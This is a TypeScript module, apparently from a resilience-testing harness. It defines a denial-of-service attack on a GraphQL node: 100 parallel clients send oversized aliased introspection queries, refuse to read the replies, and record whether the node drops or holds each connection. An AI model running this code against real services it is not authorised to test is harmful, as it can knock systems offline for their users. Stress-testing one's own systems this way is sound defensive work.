import { once } from 'node:events';
import { connect, httpPost, inParallel, largest, openPoster, pause, type Attack } from '../target.ts';

/** ms after which a client gives up a connection that the node still holds, and opens another. */
const HELD = 10_000;

/** A hundred clients who ask for as much of the schema as they may, and then read nothing of it. */
export const introspection: Attack = async (target) => {
  const client = openPoster(target);
  const query = await largest(client, 100, schemas);
  if (query === null) throw new Error('The node refuses introspection.');
  const bytes = httpPost(JSON.stringify({ query }));
  await inParallel(target, 100, async () => {
    const socket = await connect(target);
    socket.pause();
    const closed = once(socket, 'close').then(() => 'cut off');
    for (let count = 0; count < 20; count += 1) socket.write(bytes);
    target.saw(await Promise.race([closed, pause(target, HELD).then(() => 'held')]));
    socket.destroy();
  });
};

function schemas(count: number): string {
  const fields = '{ types { name fields { name description args { name } } } }';
  return `{ ${Array.from({ length: count }, (_, index) => `a${index}: __schema ${fields}`).join(' ')} }`;
}
